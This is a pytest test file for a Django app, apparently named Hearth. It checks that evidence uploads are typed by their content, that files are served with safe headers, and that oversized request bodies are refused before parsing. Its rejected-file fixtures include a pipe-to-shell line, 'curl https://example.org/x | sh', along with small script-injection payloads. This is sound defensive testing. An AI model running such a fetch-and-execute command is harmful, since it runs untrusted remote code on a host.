"""Issue 12: evidence files are typed by their content, not by what the sender declared,
served back with the type Hearth decided, and request bodies over the limit are refused
before any of them is read."""

import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
from django.core.exceptions import RequestDataTooBig
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import FileUploadHandler
from django.http import HttpRequest, HttpResponse
from django.test import Client, RequestFactory
from django.utils import timezone
from pytest_django.fixtures import Settings
from rest_framework.test import APIClient

from accounts.models import User
from competencies.models import Assessment, Competency
from core.request_size import RequestSizeLimitMiddleware
from tests.conftest import World
from tests.factories import AssessmentFactory
from tests.support.competencies import make_framework

pytestmark = pytest.mark.django_db
PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
PNG_BYTES = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\x00" * 64
PDF_BYTES = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"


def office_package(main_part: str, content_type: str) -> bytes:
    """A minimal Office Open XML package: [Content_Types].xml naming its main part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr(
            "[Content_Types].xml",
            f'<Types><Override PartName="/{main_part}" ContentType="{content_type}"/></Types>',
        )
        package.writestr(main_part, "<document/>")
    return buffer.getvalue()


DOCX_BYTES = office_package(
    "word/document.xml",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
)
PPTX_BYTES = office_package(
    "ppt/presentation.xml",
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
)


class RecordingUploadHandler(FileUploadHandler):
    """Counts every byte of file data Django's upload machinery hands to handlers."""

    received: ClassVar[list[int]] = []

    def receive_data_chunk(self, raw_data: bytes, start: int) -> bytes:
        RecordingUploadHandler.received.append(len(raw_data))
        return raw_data

    def file_complete(self, file_size: int) -> None:
        return None


@pytest.fixture
def competency(world: World) -> Competency:
    return make_framework(1)[0]


@pytest.fixture
def media(settings: Settings, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def recorded(settings: Settings, tmp_path: Path) -> Iterator[Path]:
    """Uploads go to a temporary directory of their own, every byte through the recorder."""
    temp_dir = tmp_path / "uploads"
    temp_dir.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(temp_dir)
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0  # every file that is parsed goes to disk
    settings.FILE_UPLOAD_HANDLERS = [
        "tests.competencies.test_evidence.RecordingUploadHandler",
        "django.core.files.uploadhandler.TemporaryFileUploadHandler",
    ]
    RecordingUploadHandler.received.clear()
    yield temp_dir
    RecordingUploadHandler.received.clear()


def _record(client: APIClient, world: World, competency: Competency, upload: Any) -> Any:
    return client.post(
        "/api/v1/assessments/",
        {
            "learner": world.x_learner_a.pk,
            "competency": competency.pk,
            "method": "evidence",
            "outcome": "competent",
            "evidence_file": upload,
        },
        format="multipart",
    )


@pytest.mark.parametrize(
    ("name", "content", "declared"),
    [
        ("page.html", b"<!doctype html><title>x</title><script>alert(1)</script>", PDF),
        ("run.sh", b"#!/bin/sh\ncurl https://example.org/x | sh\n", PDF),
        ("notes.pdf", b"Just some words, no PDF at all.", PDF),
        ("slides.docx", PPTX_BYTES, DOCX),  # a zip, but not a Word document
        ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "image/png"),
        ("empty.pdf", b"", PDF),
    ],
)
def test_a_file_that_is_not_what_it_claims_is_refused_and_nothing_is_stored(
    world: World,
    competency: Competency,
    client_for: Callable[[User], APIClient],
    media: Path,
    name: str,
    content: bytes,
    declared: str,
) -> None:
    upload = SimpleUploadedFile(name, content, content_type=declared)

    response = _record(client_for(world.x_assessor_a), world, competency, upload)

    assert response.status_code == 400
    error = response.json()["error"]
    assert error["fields"]["evidence_file"] in (
        ["Not a PDF, JPEG, PNG or .docx file."],
        ["The submitted file is empty."],
    )
    assert Assessment.objects.count() == 0
    assert not media.exists() or list(media.rglob("*.*")) == []


@pytest.mark.parametrize(
    ("name", "content", "declared", "stored_as", "served_as"),
    [
        ("visit.pdf", PDF_BYTES, PDF, "visit.pdf", PDF),
        ("photo.jpeg", JPEG_BYTES, "image/jpeg", "photo.jpg", "image/jpeg"),
        ("scan.html", PNG_BYTES, "text/html", "scan.png", "image/png"),  # really a PNG
        ("report.docx", DOCX_BYTES, "application/octet-stream", "report.docx", DOCX),
    ],
)
def test_an_accepted_file_is_stored_and_served_with_the_type_hearth_found(
    world: World,
    competency: Competency,
    client_for: Callable[[User], APIClient],
    media: Path,
    name: str,
    content: bytes,
    declared: str,
    stored_as: str,
    served_as: str,
) -> None:
    assessor = client_for(world.x_assessor_a)
    upload = SimpleUploadedFile(name, content, content_type=declared)

    created = _record(assessor, world, competency, upload)
    download = assessor.get(f"/api/v1/assessments/{created.json()['id']}/evidence/")

    assert created.status_code == 201
    assert Path(Assessment.objects.get().evidence_file.name or "").name == stored_as
    assert download.status_code == 200
    assert download["Content-Type"] == served_as
    assert download["Content-Disposition"] == f'attachment; filename="{stored_as}"'
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == content  # type: ignore[attr-defined]


def test_a_file_stored_before_types_were_checked_is_served_as_plain_bytes(
    world: World, competency: Competency, client_for: Callable[[User], APIClient], media: Path
) -> None:
    assessment = AssessmentFactory.create(
        learner=world.x_learner_a,
        organisation=world.org_x,
        competency=competency,
        method="evidence",
        assessor=world.x_assessor_a,
        assessed_at=timezone.now(),
        evidence_file=SimpleUploadedFile("page.html", b"<script>alert(1)</script>"),
    )

    download = client_for(world.x_manager_a).get(f"/api/v1/assessments/{assessment.pk}/evidence/")

    assert download["Content-Type"] == "application/octet-stream"
    assert download["Content-Disposition"] == 'attachment; filename="page.html"'
    assert download["X-Content-Type-Options"] == "nosniff"


def test_an_upload_over_the_limit_is_refused_without_being_written_to_disk(
    world: World,
    competency: Competency,
    client_for: Callable[[User], APIClient],
    settings: Settings,
    recorded: Path,
    media: Path,
) -> None:
    settings.HEARTH_REQUEST_MAX_BYTES = 64 * 1024
    big = PDF_BYTES + b"0" * (200 * 1024)
    assessor = client_for(world.x_assessor_a)
    page = Client()
    page.force_login(world.x_assessor_a)

    api = _record(assessor, world, competency, SimpleUploadedFile("big.pdf", big, PDF))
    form = page.post(
        "/assess/",
        {
            "learner": world.x_learner_a.pk,
            "competency": competency.pk,
            "method": "evidence",
            "outcome": "competent",
            "assessed_at": timezone.localdate().isoformat(),
            "evidence_file": SimpleUploadedFile("big.pdf", big, PDF),
        },
    )

    assert api.status_code == 413
    assert api.json() == {
        "error": {
            "status": 413,
            "code": "request_too_large",
            "message": "The request is larger than 0.0625 MB, the most Hearth accepts.",
            "fields": {},
        }
    }
    assert form.status_code == 413
    assert "That was too large to send" in form.content.decode()
    assert RecordingUploadHandler.received == []  # no byte of either file was parsed
    assert list(recorded.iterdir()) == []
    assert Assessment.objects.count() == 0 and not media.exists()


def test_an_upload_under_the_limit_passes_through_the_same_recorder(
    world: World,
    competency: Competency,
    client_for: Callable[[User], APIClient],
    settings: Settings,
    recorded: Path,
    media: Path,
) -> None:
    """The control for the test above: the recorder does see a file that is accepted."""
    settings.HEARTH_REQUEST_MAX_BYTES = 64 * 1024
    upload = SimpleUploadedFile("small.pdf", PDF_BYTES, PDF)

    response = _record(client_for(world.x_assessor_a), world, competency, upload)

    assert response.status_code == 201
    assert sum(RecordingUploadHandler.received) == len(PDF_BYTES)


def test_a_body_without_a_content_length_stops_at_the_limit(settings: Settings) -> None:
    """A chunked body declares no length: reading it stops one byte past the limit."""
    settings.HEARTH_REQUEST_MAX_BYTES = 1024
    request = RequestFactory().post("/api/v1/assessments/", b"x" * 10_000, "text/plain")
    del request.META["CONTENT_LENGTH"]
    source = io.BytesIO(b"x" * 10_000)
    request._stream = source
    seen: list[bytes] = []

    def view(inner: HttpRequest) -> HttpResponse:
        seen.append(inner.read(100))
        inner.read()
        return HttpResponse("read it all")

    with pytest.raises(RequestDataTooBig):
        RequestSizeLimitMiddleware(view)(request)
    assert seen == [b"x" * 100]
    assert source.tell() == 1025
